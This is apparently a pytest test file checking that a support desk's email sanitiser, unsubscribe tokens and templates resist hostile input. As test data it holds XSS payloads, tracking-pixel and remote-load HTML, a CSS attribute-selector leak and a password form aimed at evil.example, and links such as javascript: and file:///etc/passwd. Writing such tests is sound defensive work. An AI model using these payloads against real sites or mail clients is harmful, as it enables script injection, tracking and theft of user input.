"""Bad input that reaches clients' rights or the screens of staff, each kind with its number."""

from __future__ import annotations

import html as html_module
import re

import pytest
import sqlalchemy as sa
from sqlalchemy.orm import Session

from core import consent
from core.accounts import Channel
from core.consent import Scope, SuppressionReason, address_key
from core.conversations import Attachment, Message
from core.db import transaction
from desk.letterview import make_safe
from outbound.unsubscribe import Unsubscriber
from templates.rendered import render_email
from tests.desk.conftest import Browser, SignedIn
from tests.factories import World
from tests.templates.factories import values

EVIL = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
REMOTE = "https://evil.example"


def test_b20_nobody_unsubscribes_somebody_else_by_guessing(
    visitor: Browser, engine: sa.Engine, world: World
) -> None:
    own = Unsubscriber("b" * 64, "https://desk.example").token("ona@vandenis.example", 7)
    for token in ("7", "8", "ona@vandenis.example", own, own[:-1] + "A"):
        assert visitor.post(f"/unsubscribe/{token}").status_code == 404
    with transaction(engine) as session:
        assert consent.suppression_of(session, Channel.EMAIL, "ona@vandenis.example") is None


@pytest.mark.parametrize(
    ("kept", "asked", "same"),
    [
        ("A@X.lt", "a@x.lt", True),
        ("a+1@x.lt", "a@x.lt", True),
        ("a@сайт.рф", "a@xn--80aswg.xn--p1ai", True),
        ("a.b@x.lt", "ab@x.lt", False),
        ("a@x.lt", "a@y.lt", False),
    ],
)
def test_b21_one_mailbox_is_one_entry_however_it_is_written(kept: str, asked: str, same: bool) -> None:
    assert (address_key(Channel.EMAIL, kept) == address_key(Channel.EMAIL, asked)) is same


def test_b21_an_opt_out_counts_for_every_way_of_writing_the_address(engine: sa.Engine, world: World) -> None:
    with transaction(engine) as session:
        consent.suppress(
            session, Channel.EMAIL, "Ona+news@Vandenis.LT", scope=Scope.MARKETING,
            reason=SuppressionReason.UNSUBSCRIBED, source="test",
        )  # fmt: skip
        assert consent.suppression_of(session, Channel.EMAIL, "ona@vandenis.lt") is not None


@pytest.mark.parametrize(
    "html",
    [
        f"<img src='{REMOTE}/p.gif' width=1 height=1>",
        f"<img srcset='{REMOTE}/a.png 1x, {REMOTE}/b.png 2x'>",
        f"<table background='{REMOTE}/p.gif'><tr><td background='{REMOTE}/q.gif'>x</td></tr></table>",
        f"<p style=\"background:url('{REMOTE}/p.gif')\">x</p>",
        f"<style>@import '{REMOTE}/x.css'; @font-face {{ src: url({REMOTE}/f.woff) }}</style>",
        f"<video poster='{REMOTE}/p.jpg' src='{REMOTE}/v.mp4'></video><audio src='{REMOTE}/a.mp3'></audio>",
        f"<link rel=stylesheet href='{REMOTE}/x.css'><link rel=prefetch href='{REMOTE}/y'>",
        f"<svg><image href='{REMOTE}/p.svg'/></svg><input type=image src='{REMOTE}/i.png'>",
    ],
)
def test_b23_nothing_of_a_letter_is_loaded_from_elsewhere_unasked(html: str) -> None:
    assert "evil.example" not in make_safe(html).html


def test_b23_a_picture_is_loaded_only_when_somebody_asked(signed_in: SignedIn, world: World) -> None:
    browser = signed_in("agent")
    page = browser.get(f"/conversations/{world.talks['own'].id}").text
    frame = re.findall(r'data-frame="([^"]+)"', page)[0]
    unasked, asked = browser.get(frame), browser.get(f"{frame}?pictures=1")
    assert "track.example" not in unasked.text
    assert "https:" not in unasked.headers["content-security-policy"]
    assert 'src="https://track.example/p.gif"' in asked.text
    assert "img-src data: https:" in asked.headers["content-security-policy"]
    assert asked.headers["referrer-policy"] == "no-referrer"
    assert "<script" not in asked.text


@pytest.mark.parametrize(
    "html",
    [
        f"<style>input[value^=a] {{ background: url({REMOTE}/?a) }}</style>x",
        "<div style='position:fixed;top:0;left:0;width:1000000px;height:1000000px'>x</div>",
        "<p style='animation: spin 1s infinite'>x</p><marquee>x</marquee><blink>x</blink>",
    ],
)
def test_b24_no_style_of_a_letter_reaches_the_screen(html: str) -> None:
    left = make_safe(html).html
    for bad in ("style", "evil.example", "position", "marquee", "blink"):
        assert bad not in left


@pytest.mark.parametrize(
    "html",
    [
        f"<form action='{REMOTE}'><input name=password><button formaction='{REMOTE}'>go</button></form>",
        f"<base href='{REMOTE}/'><a href='/inbox'>x</a>",
        f"<meta http-equiv=refresh content='0;url={REMOTE}'>",
        "<p id=cookie name=location>x</p><a id=body name=forms>y</a>",
    ],
)
def test_b25_no_form_base_refresh_or_borrowed_name_is_left(html: str) -> None:
    left = make_safe(html).html
    assert not re.search(r"<(?:form|input|button|base|meta)\b|\b(?:id|name|action|formaction)=", left)
    assert "evil.example" not in left


@pytest.mark.parametrize(
    "address",
    [
        "data:text/html,<script>alert(1)</script>", "javascript:alert(1)", " java\nscript:alert(1)",
        "vbscript:x", "file:///etc/passwd", "smb://evil.example/share", "\\\\evil.example\\share",
        "//evil.example/x", "blob:https://x", "cid:x", "ms-word:ofe|u|https://evil.example/x.docx",
    ],
)  # fmt: skip
def test_b26_a_link_leads_to_the_web_or_to_mail_or_nowhere(address: str) -> None:
    assert "href=" not in make_safe(f'<a href="{html_module.escape(address)}">x</a>').html


def test_b27_a_letter_of_countless_tags_and_attributes_is_cut(world: World) -> None:
    deep = make_safe("<div>" * 150_000 + "deep")
    assert deep.cut
    assert "deep" in deep.html
    assert "x=" not in make_safe("<a " + "x=y " * 20_000 + ">hi</a>").html


def test_b28_what_clients_name_themselves_and_their_files_is_only_text(
    signed_in: SignedIn, engine: sa.Engine, world: World
) -> None:
    number = world.talks["own"].id
    with transaction(engine) as session:
        message = _newest(session, number)
        message.subject, message.sender_name, message.reply = EVIL, EVIL, EVIL
        message.quoted, message.signature = EVIL, EVIL
        message.warnings = [EVIL]
        message.trail = [{"step": EVIL, "reason": EVIL}]
        message.forwarded = {"name": EVIL, "address": EVIL, "subject": EVIL, "date": EVIL}
        message.sender_checks = {
            "verdict": "denied", "by": EVIL, "domain": EVIL, "spf": EVIL, "dkim": "", "dmarc": "",
            "findings": [{"code": "several_senders", "shown": EVIL, "real": EVIL}, {"code": EVIL}],
        }  # fmt: skip
        session.add(Attachment(message_id=message.id, name=EVIL, content_type=EVIL, size=1, part="9"))
        assert message.contact is not None
        message.contact.name = EVIL
        message.conversation.subject = EVIL
    browser = signed_in("agent")
    for path in (f"/conversations/{number}", f"/conversations/{number}/history", "/inbox"):
        page = browser.get(path).text
        assert "<script>alert" not in page
        assert "<img src=x" not in page
        assert "alert(1)" in page


def _newest(session: Session, number: int) -> Message:
    query = sa.select(Message).where(Message.conversation_id == number, Message.direction == "in")
    return session.scalars(query.order_by(Message.id.desc())).first() or Message()


@pytest.mark.parametrize("key", ["acknowledgement", "answer"])
def test_b29_what_a_client_wrote_is_only_text_in_what_we_send(key: str) -> None:
    mail = render_email(key, "en", values(client__name=EVIL, conversation__subject=EVIL, answer__text=EVIL))
    assert "<script>" not in mail.html
    assert "<img src=x" not in mail.html
    assert "\n" not in mail.subject
